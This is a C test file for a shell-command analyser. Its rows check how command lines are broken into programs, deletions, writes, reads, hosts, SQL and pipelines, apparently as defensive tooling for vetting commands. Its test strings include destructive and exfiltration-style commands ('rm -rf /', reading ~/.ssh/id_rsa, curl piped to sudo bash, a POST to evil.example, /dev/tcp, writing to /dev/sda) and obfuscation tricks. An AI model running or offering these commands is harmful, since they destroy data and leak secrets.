/* SPDX-License-Identifier: MIT */
/* Command lines to actions: both what must be seen and what must stay data. */
#include "shell_rows.h"

static void commands_in_normal_form(void)
{
	static const struct example rows[] = {
		ROW("sudo -u dev git -C /srv/app push --force", "git push --force"),
		ROW("git -c k=v --git-dir=/x --no-pager push -f origin main",
			"git push -f origin main"),
		ROW("git-push --force; /usr/lib/git-core/git-reset --hard",
			"git push --force; git reset --hard"),
		ROW("git --version", "git --version"),
		ROW("/bin/rm -rf /; rm.EXE x; 'C:\\Windows\\rm.exe' y", "rm -rf /; rm x; rm y"),
		ROW("A=1 B=2 rm x", "rm x"),
		ROW("docker --context prod system prune -af", "docker system prune -af"),
		ROW("kubectl -n prod --context=p delete pod x -n y", "kubectl delete pod x -n y"),
		ROW("terraform -chdir=infra destroy -auto-approve",
			"terraform destroy -auto-approve"),
		ROW("aws --profile p --region=r s3 rb s3://b --force", "aws s3 rb s3://b --force"),
		ROW("git commit -m \"a 'b'; rm -rf /\"", "git commit -m 'a '\\''b'\\''; rm -rf /'"),
		ROW("rm -- -x", "rm -- -x"),
		ROW("[ -f x ] && echo \"\" a", "[ -f x ]; echo '' a"),
	};
	CHECK_ALL(rows, FACT_COMMAND);
}

static void programs_behind_wrappers(void)
{
	static const struct example rows[] = {
		ROW("sudo rm; sudo -nu dev rm; sudo -- rm; sudo A=1 rm; doas -u a rm",
			"rm; rm; rm; rm; rm"),
		ROW("env -i A=1 rm; env -u X -C / rm; env - rm; env; env -S 'rm x'",
			"rm; rm; rm; env; env; rm"),
		ROW("nice -n 5 rm; nice -5 rm; ionice -c3 rm; nohup rm & setsid -w rm",
			"rm; rm; rm; rm; rm"),
		ROW("timeout -k 5 10 rm; timeout 5 rm; stdbuf -oL rm; time -p rm",
			"rm; rm; rm; rm"),
		ROW("command rm; exec -a x rm; builtin cd; command -v rm; command -V rm",
			"rm; rm; cd; command; command"),
		ROW("find . | xargs -0 -n1 -I {} rm {}", "find; rm"),
		ROW("sudo env nohup nice timeout 9 xargs rm", "rm"),
		ROW("watch -n 1 rm x; watch 'rm x; ls'", "watch; rm; watch; rm; ls"),
		ROW("bash -c 'rm x; ls'; sudo sh -ec \"rm y\"; zsh -c rm",
			"bash; rm; ls; sh; rm; zsh; rm"),
		ROW("bash -o pipefail -c 'rm x' arg", "bash; rm"),
		ROW("bash -c \"bash -c 'rm x'\"", "bash; bash; rm"),
		ROW("eval rm -rf '/'; eval \"$(ssh-agent -s)\"",
			"eval; rm; eval; $(ssh-agent -s); ssh-agent"),
		ROW("su - dev -c 'rm x'; runuser -u dev rm; runuser dev -c 'rm x'",
			"su; rm; rm; runuser; rm"),
		ROW("chronic -v rm; caffeinate -t 5 rm; taskset 0x1 rm; busybox rm; flock /l rm",
			"rm; rm; rm; rm; rm"),
		ROW("flock /l -c 'rm x'", "flock; rm"),
		ROW("sudo -l; sudo; xargs", "sudo; sudo; xargs"),
		ROW("sudo $x rm; env \"$y\"; \"$d\"/rm; ${x%/*}; $(a/b)",
			"$x; $y; rm; ${x%/*}; $(a/b); b"),
	};
	CHECK_ALL(rows, FACT_PROGRAM);
}

static void programs_in_structures(void)
{
	static const struct example rows[] = {
		ROW("git status && rm -rf /", "git; rm"), ROW("true; find . -delete", "true; find"),
		ROW("{ rm a; }; ! rm b; if true; then rm c; fi; (rm d); f() { rm e; }; f",
			"rm; rm; true; rm; rm; rm"),
		ROW("for x in a b; do rm $x; done; while read l; do rm $l; done < f",
			"rm; rm; read; rm"),
		ROW("case $x in a) rm;; esac", "rm"),
		ROW("git commit -m \"$(rm -rf ~)\"; echo `rm`; echo $(( a[$(rm)] ))",
			"git; rm; echo; rm; echo; rm"),
		ROW("cat <(rm) > >(tee x)", "cat; rm; tee"),
		ROW("x=$(rm) y=`rm`; for i in $(rm); do :; done", "rm; rm; rm; :"),
		ROW("bash <<EOF\nrm x\nEOF", "bash; rm"),
		ROW("cat <<'EOF' | sh\nrm x\nEOF", "cat; sh; rm"),
		ROW("bash <<< 'rm x'; sh -s a <<< rm", "bash; rm; sh; rm"),
		ROW("echo 'rm x' | bash --norc; echo rm x | sudo sh; echo rm | env bash "
		    "2>/dev/null",
			"echo; bash; rm; echo; sh; rm; echo; bash; rm"),
		ROW("printf 'rm x\\n' | sh; printf '%s\\n' 'rm y' z | bash /dev/stdin; printf 'rm "
		    "%s' / | sh",
			"printf; sh; rm; printf; bash; rm; z; printf; sh; rm"),
		ROW("bash <<EOF\n$(rm x)\nEOF", "bash; $(rm x); rm"),
		ROW("cat <<EOF\n$(rm x) `rm y`\nEOF", "cat; rm; rm"),
		ROW("find / -name '*.c' -exec rm -rf {} + -o -exec sudo unlink {} \\;",
			"find; rm; unlink"),
		ROW("r''m; \"rm\"; r\\m; $'\\x72m'; rm$IFS-rf${IFS}/", "rm; rm; rm; rm; rm"),
		ROW("echo a \\\n; rm", "echo; rm"),
		ROW("=rm x; '=rm' x; =nothing-known", "rm; =rm; =nothing-known"), /* zsh */
	};
	CHECK_ALL(rows, FACT_PROGRAM);
}

static void data_stays_data(void)
{
	static const struct example rows[] = {
		ROW("grep -n \"rm -rf\" f; echo 'never git reset --hard; rm'", "grep; echo"),
		ROW("git commit -F - <<'EOF'\nrm -rf / `x` $(y)\nEOF", "git"),
		ROW("git commit -m \"$(cat <<'EOF'\nit's; rm -rf / && (x\nEOF\n)\"", "git; cat"),
		ROW("cat > notes.md <<'EOF'\nrm -rf /\nEOF\nls", "cat; ls"),
		ROW("python3 - <<'EOF'\nimport os; rm()\nEOF", "python3"),
		ROW("bash x.sh <<EOF\nrm\nEOF", "bash"),
		ROW("bash -c 'cat' <<EOF\nrm\nEOF", "bash; cat"),
		ROW("echo a # ; rm -rf /", "echo"),
		ROW("[[ a > b && rm -rf ]]; [ rm = x ]", "["),
		ROW("echo rm | cat; echo 'rm x' | grep rm", "echo; cat; echo; grep"),
		ROW("gh issue create --body 'run `rm -rf /`'", "gh"),
		ROW("x='rm -rf /'; a=(rm -rf /)", ""),
		ROW("", ""),
	};
	CHECK_ALL(rows, FACT_PROGRAM);
}

static void flags_and_operands(void)
{
	static const struct example flags[] = {
		ROW("rm -rf -v --force --interactive=never -- -x",
			"-r,-f,-v,--force,--interactive"),
		ROW("find . -name x -delete", "-name,-delete"),
		ROW("head -n5 f; head -n 5 f; head -5", "-n; -n; -5"),
		ROW("curl -sSfLo out u", "-s,-S,-f,-L,-o"),
		ROW("terraform apply -auto-approve -var=a=b", "-auto-approve,-var"),
		ROW("rm -r'f' '-v' \"--x y\"", "-r,-f,-v,--x y"),
		ROW("ls -", ""),
		ROW("mysql -uroot -psecret -e x; sed -ie s/a/b/ f", "-u,-p,-e; -i"),
	};
	static const struct example operands[] = {
		ROW("git push -f origin main", "push,origin,main"),
		ROW("git commit -m 'a b' --amend", "commit,a b"),
		ROW("rm -rf -- -x y", "-x,y"),
		ROW("dd if=/a of=/b bs=1", "if=/a,of=/b,bs=1"),
		ROW("docker load --rm img -", "load,img,-"),
	};
	CHECK_ALL(flags, FACT_FLAG);
	CHECK_ALL(operands, FACT_OPERAND);
}

static void deletes(void)
{
	static const struct example rows[] = {
		ROW("rm -rf / ~ $HOME/x \"${HOME}/y\" ./a ../b '~' '$HOME' a/../..",
			"/,/home/dev,/home/dev/x,/home/dev/y,/srv/app/a,/srv/b,/srv/app/~,/srv/app/"
			"$HOME,/srv"),
		ROW("rmdir a; unlink b; shred -u -n 3 c", "/srv/app/a; /srv/app/b; /srv/app/c"),
		ROW("mv a b /c", "/srv/app/a,/srv/app/b"),
		ROW("find /a b -type f -delete; find -delete", "/a,/srv/app/b; /srv/app"),
		ROW("find /a -exec rm {} \\;", "/a"),
		ROW("rm -- -x; rm -rf *.c /tmp/*", "/srv/app/-x; /srv/app/*.c,/tmp/*"),
		ROW("rm \"$x\" y $(z)", "/srv/app/y"),
		ROW("cd /a && rm b; cd c; rm d; (cd /e; rm f); rm g", "/a/b; /a/c/d; /e/f; /a/c/g"),
		ROW("cd /a || rm b; cd /c & rm d; cd /e | rm f",
			"/srv/app/b; /srv/app/d,/a/d; /srv/app/f,/a/f"),
		ROW("cd; rm a; cd -; rm b; cd /x; rm c; cd \"$y\"; rm d /e",
			"/home/dev/a; /srv/app/b; /x/c; /e"),
		ROW("env -C /x rm a; sudo -D /y rm b; pushd /z; rm c", "/x/a; /y/b; /z/c"),
		ROW("bash -c 'cd /q; rm a'; rm b; bash -c \"rm $HOME/c\"",
			"/q/a; /srv/app/b; /home/dev/c"),
		ROW("ls | xargs rm -f /k", "/k"),
		ROW("cat /a; grep rm b; rm https://x.org/a", ""),
	};
	CHECK_ALL(rows, FACT_DELETES);
}

static void writes(void)
{
	static const struct example rows[] = {
		ROW("echo a > b 2>> /c >| d &> e &>> f {fd}> g >&h 5>i",
			"/srv/app/b,/c,/srv/app/d,/srv/app/e,/srv/app/f,/srv/app/g,/srv/app/h,/srv/"
			"app/i"),
		ROW("ls > /dev/null 2>&1; ls 2>/dev/null >&2; ls <&3 >&-", ""),
		ROW("> f; : > g; while a; do b; done > h", "/srv/app/f; /srv/app/g; /srv/app/h"),
		ROW("cp a /d/b.c; cp a b /d; cp -t /d a", "/d/b.c; /d,/d/a,/d/b; /d,/d/a"),
		ROW("mv settings.json ~/.claude",
			"/home/dev/.claude,/srv/app/settings.json,/home/dev/.claude/settings.json"),
		ROW("touch a; mkdir -p -m 700 b; tee -a c; truncate -s 0 d; chmod 600 e; chown -R "
		    "a:b f",
			"/srv/app/a; /srv/app/b; /srv/app/c; /srv/app/d; /srv/app/e; /srv/app/f"),
		ROW("sed -i 's/a/b/' f; sed -i.bak -e x g; sed s/a/b/ h; perl -pi -e x i",
			"/srv/app/f; /srv/app/g; /srv/app/i"),
		ROW("dd if=a of=/dev/sda; ln -s /a b.c; install -m 755 a /b.c",
			"/dev/sda; /srv/app/b.c; /b.c"),
		ROW("curl -o a u; curl --output=b u; wget -O c u; curl -Tx u",
			"/srv/app/a; /srv/app/b; /srv/app/c"),
		ROW("tar czf a.tgz b; tar -xf c.tar; tar -xzf d -C /e; zip a.zip b; unzip x -d y",
			"/srv/app/a.tgz; /srv/app; /e; /srv/app/a.zip; /srv/app/y"),
		ROW("sort a -o b; find . -fprint c; echo \\> d '>' e", "/srv/app/b; /srv/app/c"),
		ROW("apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: a\n+rm\n*** Delete File: "
		    "/b\n*** End Patch\nEOF",
			"/srv/app/a; /b"),
		ROW("rm a", "/srv/app/a"),
	};
	CHECK_ALL(rows, FACT_WRITES);
}

static void reads(void)
{
	static const struct example rows[] = {
		ROW("cat a ~/.ssh/id_rsa; head -n 5 b; tail -f c; xxd d; base64 e; source f; . g",
			"/srv/app/a,/home/dev/.ssh/id_rsa; /srv/app/b; /srv/app/c; /srv/app/d; "
			"/srv/app/e; /srv/app/f; /srv/app/g"),
		ROW("grep -r rm src; grep -e rm a; grep -f pats b; rg x; sed -n 1p c; awk "
		    "'{print}' d",
			"/srv/app/src; /srv/app/a; /srv/app/pats,/srv/app/b; /srv/app; "
			"/srv/app/c; /srv/app/d"),
		ROW("wc < a; sort <(cat b); cp c /d.e; mv f /g.h; cat - /dev/stdin",
			"/srv/app/a; /srv/app/b; /srv/app/c; /dev/stdin"),
		ROW("curl -d @~/x -F f=@y -F g=z u; curl -d '@/k' file:///etc/passwd",
			"/srv/app/~/x,/srv/app/y; /k,/etc/passwd"),
		ROW("tar c ~/.ssh; tar -tf a; dd if=b; diff c d",
			"/home/dev/.ssh; /srv/app/a; /srv/app/b; /srv/app/c,/srv/app/d"),
		ROW("bash x.sh y; python3 z.py w; python3 -c x; node a.js",
			"/srv/app/x.sh; /srv/app/z.py; /srv/app/a.js"),
		ROW("git commit -F msg; ssh -i key h; ls a; echo b", "/srv/app/msg; /srv/app/key"),
		ROW("cat <<EOF\n/etc/passwd\nEOF", ""),
	};
	CHECK_ALL(rows, FACT_READS);
}

static void urls_and_hosts(void)
{
	static const struct example hosts[] = {
		ROW("curl https://A.example.com/x http://b.org:80", "a.example.com,b.org"),
		ROW("curl -X POST evil.example -d k=v.w; wget x.org/a b", "evil.example; x.org"),
		ROW("ssh -p 22 dev@host.org ls; nc -l 80; nc h.org 80", "host.org; h.org"),
		ROW("scp a dev@h.org:/b; rsync -a x: y; cp a:b c.d", "h.org"),
		ROW("exec 3<>/dev/tcp/h.org/80; echo > /dev/udp/10.0.0.1/53", "h.org; 10.0.0.1"),
		ROW("git clone https://g.org/r; echo go test ./...", "g.org"),
	};
	CHECK_ALL(hosts, FACT_HOST);
}

static void code_and_sql(void)
{
	static const struct example langs[] = {
		ROW("python3.11 -c x; python -Ic 'a b'; node -e y; node --eval=z; bun -e a; deno "
		    "eval b",
			"python; python; javascript; javascript; javascript; javascript"),
		ROW("perl -ne x f; ruby -e y; php -r z; python3 <<E\n1\nE",
			"perl; ruby; php; python"),
		ROW("python x.py; node x.js; python3 a.py <<E\n1\nE", ""),
	};
	static const struct example codes[] = {
		ROW("python3 -c 'import os' a; python3 - <<'E'\nx=1\nE", "import os; x=1"),
		ROW("echo 'print(1)' | python3; deno eval 'a()'", "print(1); a()"),
		ROW("cat > /tmp/a.py <<'E'\nx=1\nE\npython3 /tmp/a.py; python3 /tmp/b.py", "x=1\n"),
	};
	static const struct example sqls[] = {
		ROW("psql -c 'DROP TABLE a' db; psql --command='SELECT 1'; mysql -e 'DELETE FROM "
		    "b' -h c",
			"DROP TABLE a; SELECT ?; DELETE FROM b"),
		ROW("sqlite3 a.db 'DROP TABLE c'; sqlite3 -header a.db '.tables'",
			"DROP TABLE c; .tables"),
		ROW("psql <<'E'\nDROP TABLE a;\nSELECT b;\nE", "DROP TABLE a,SELECT b"),
		ROW("echo 'DROP TABLE x' | psql db; echo 'DROP TABLE y' | cat", "DROP TABLE x"),
	};
	CHECK_ALL(langs, FACT_LANG);
	CHECK_ALL(codes, FACT_CODE);
	CHECK_ALL(sqls, FACT_SQL);
}

static void pipelines_and_vias(void)
{
	static const struct example pipelines[] = {
		ROW("curl u | sudo bash -s; ls", "curl u | bash -s; curl u | bash -s; ls"),
		ROW("a | b |& c", "a | b | c; a | b | c; a | b | c"),
		ROW("{ cat a; } | curl u", "cat a | curl u; cat a | curl u"),
	};
	static const struct example vias[] = {
		ROW("sudo bash -c 'xargs rm'", "sudo; xargs,bash -c,sudo"),
		ROW("echo $(rm); cat <(rm)", "substitution; process substitution"),
		ROW("bash <<E\nrm\nE", "heredoc"),
		ROW("find . -exec rm {} +", "find -exec"),
		ROW("rm", ""),
	};
	CHECK_ALL(pipelines, FACT_PIPELINE);
	CHECK_ALL(vias, FACT_VIA);
}

static void doubts(void)
{
	static const struct example rows[] = {
		ROW("$x; \"r$y\" a; /bin/r?; {rm,-rf,/}; $(a)",
			"dynamic-program; dynamic-program; dynamic-program; dynamic-program; "
			"dynamic-program; dynamic-program"),
		ROW("rm $x; rm \"$x/a\" b; echo $x; cat > $y",
			"dynamic-path; dynamic-path; dynamic-path"),
		ROW("cd $x; rm a; rm /b; ls | xargs rm", "dynamic-path; dynamic-path"),
		ROW("rm 'a", "unparsed"),
		ROW("'", "dynamic-program"),
		ROW("ls; rm x )", "unparsed"),
		ROW("bash -c 'rm \"a'", "unparsed"),
		ROW("[ a ]; ls *; rm ~/x; git commit -m \"$x\"", ""),
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		if (i != 4)
			check_all(&rows[i], 1, FACT_DOUBT);
	}
}

static void limits(void)
{
	/* sh -c "sh -c …" deeper than the limit. */
	struct str text = STR("rm x");
	for (size_t i = 0; i < LIMIT_SHELL_DEPTH + 1; i++) {
		struct buf out;
		buf_init(&out, &arena, 1 * MIB);
		buf_add(&out, STR("eval '"));
		for (size_t at = 0; at < text.len; at++)
			buf_add(&out,
				text.ptr[at] == '\'' ? STR("'\\''") : str_slice(text, at, at + 1));
		buf_add(&out, STR("'"));
		text = buf_str(&out);
		CHECK_STR(values(text, FACT_DOUBT),
			i + 1 < LIMIT_SHELL_DEPTH ? STR("") : STR("too-deep"));
	}
	CHECK_STR(values(STR("echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(rm))))))))"),
			  FACT_DOUBT),
		STR("too-deep"));
	struct buf many;
	buf_init(&many, &arena, 1 * MIB);
	for (size_t i = 0; i <= LIMIT_ACTIONS; i++)
		buf_add(&many, STR("a;"));
	CHECK(!read_in(buf_str(&many), STR("/")));
	CHECK_LONG(fault.kind, FAULT_LIMIT);
	many.len = 0;
	for (size_t i = 0; i <= LIMIT_FACTS; i++)
		buf_add(&many, STR("a "));
	CHECK(!read_in(buf_str(&many), STR("/")));
	CHECK_LONG(fault.kind, FAULT_LIMIT);
}

static void unusable_cwd(void)
{
	CHECK(read_in(STR("rm /a ~/b; cd /c; rm d; ls; cd e"), STR("")));
	CHECK(!read_in(STR("rm a"), STR("")));
	CHECK_LONG(fault.kind, FAULT_PAYLOAD);
	CHECK(!read_in(STR("cd sub && rm a"), STR("rel")));
	CHECK(read_in(STR("rm $x; rm https://a.b/c; cat -"), STR("")));
}

static void places(void)
{
	CHECK(read_in(STR("ls; rm -rf 'a' >b; echo \"$(rm c)\" `rm d`; bash -c 'rm e'"), STR("/")));
	static const struct span wanted[] = {
		{0, 2}, {4, 13}, {19, 21}, {27, 4}, {34, 6}, {42, 14}, {50, 6}};
	const struct action *action = actions.first;
	for (size_t i = 0; i < ARRAY_LEN(wanted) && action; i++, action = action->next) {
		CHECK_LONG(action->place.at, wanted[i].at);
		CHECK_LONG(action->place.len, wanted[i].len);
	}
	CHECK_LONG(actions.count, 7);
}

int main(void)
{
	arena_init(&arena, LIMIT_ARENA_BYTES);
	TEST(commands_in_normal_form);
	TEST(programs_behind_wrappers);
	TEST(programs_in_structures);
	TEST(data_stays_data);
	TEST(flags_and_operands);
	TEST(deletes);
	TEST(writes);
	TEST(reads);
	TEST(urls_and_hosts);
	TEST(code_and_sql);
	TEST(pipelines_and_vias);
	TEST(doubts);
	TEST(limits);
	TEST(unusable_cwd);
	TEST(places);
	arena_finish(&arena);
	return test_done();
}
